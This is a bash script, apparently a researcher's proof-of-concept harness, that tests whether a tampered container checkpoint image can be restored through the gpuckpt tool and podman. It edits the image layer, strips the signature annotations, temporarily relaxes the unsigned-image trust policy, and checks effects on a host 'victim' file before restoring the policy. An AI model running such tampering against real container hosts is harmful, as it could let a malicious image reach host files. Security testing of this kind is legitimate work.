#!/bin/bash
# attack30e: the image paths under restore:any (node policy changed for the run only, put back, cmp'd):
# `gpuckpt export ... oci:`, the layer edited by edit.py MODE (mount images; dump.sig removed), the image's signature
# annotation removed (an unsigned image), then (1) `gpuckpt import oci:` and (2) `skopeo copy` + `podman container
# restore IMAGE`, each followed by run.sh's proof (PROOF_ONLY=1).
set -u
MODE=${1:-autoext4}
D=/var/tmp/attack30e; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D; rm -rf img img-edit
podman rm -f -t 0 attack30e-src >/dev/null 2>&1
podman run -d --name attack30e-src --network none localhost/gpuckpt-test:latest \
  sh -c 'i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done' >/dev/null
sleep 2
gpuckpt export attack30e-src -o oci:$D/img:v1 | tail -1
podman rm -f -t 0 attack30e-src >/dev/null
cp -a img img-edit
$P - "$H" "$MODE" <<'PY'
import hashlib, json, subprocess, sys
from pathlib import Path
d = Path("/var/tmp/attack30e/img-edit"); blobs = d / "blobs" / "sha256"
def blob(data):
    h = hashlib.sha256(data).hexdigest(); (blobs / h).write_bytes(data); return f"sha256:{h}"
index = json.loads((d / "index.json").read_text())
manifest = json.loads((blobs / index["manifests"][0]["digest"][7:]).read_text())
layer = manifest["layers"][0]
subprocess.run([sys.executable, f"{sys.argv[1]}/edit.py", str(blobs / layer["digest"][7:]), str(d / "layer.new"),
                sys.argv[2]], check=True, stdout=subprocess.DEVNULL)
new = (d / "layer.new").read_bytes(); (d / "layer.new").unlink()
layer["digest"], layer["size"] = blob(new), len(new)
removed = [k for k in list(manifest.get("annotations", {})) if "sig" in k.lower()]
for k in removed:
    del manifest["annotations"][k]
print("signature annotations removed:", removed)
m = json.dumps(manifest).encode()
index["manifests"][0]["digest"], index["manifests"][0]["size"] = blob(m), len(m)
(d / "index.json").write_text(json.dumps(index))
PY
cp /etc/gpuckpt/trust.toml $D/trust.toml.before
echo "--- control, default policy: gpuckpt import oci:"
timeout 200 gpuckpt import oci:$D/img-edit:v1 2>&1 | cut -c1-400; echo "gpuckpt import rc=${PIPESTATUS[0]}"
gpuckpt trust allow-unsigned restore:any --note attack30e
victim() { [ $MODE = cgprop ] && { printf 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n' > $D/victim; chmod 600 $D/victim; echo "host victim before: $(ls -la $D/victim | cut -d' ' -f1,3,4) content: $(cat $D/victim)"; }; true; }
echo "=== (1) gpuckpt import oci: $MODE"; victim
podman rm -f -t 0 attack30e-src >/dev/null 2>&1
timeout 200 gpuckpt import oci:$D/img-edit:v1 2>&1 | cut -c1-400; echo "gpuckpt import rc=${PIPESTATUS[0]}"
PROOF_ONLY=1 bash $H/run.sh $MODE
podman rm -f -t 0 attack30e-src >/dev/null 2>&1
echo "=== (2) podman container restore IMAGE $MODE"; victim
skopeo copy -q oci:$D/img-edit:v1 containers-storage:localhost/attack30e-img:v1 && echo "copied in"
timeout 200 podman container restore localhost/attack30e-img:v1 2>&1 | tail -1 | cut -c1-300; echo "restore IMAGE rc=${PIPESTATUS[0]}"
PROOF_ONLY=1 bash $H/run.sh $MODE
podman rm -f -t 0 attack30e-src >/dev/null 2>&1
podman rmi localhost/attack30e-img:v1 >/dev/null 2>&1 && echo "image removed"
gpuckpt trust disallow-unsigned restore:any
cmp /etc/gpuckpt/trust.toml $D/trust.toml.before && echo "trust policy put back: identical"
rm -f $D/disk-write
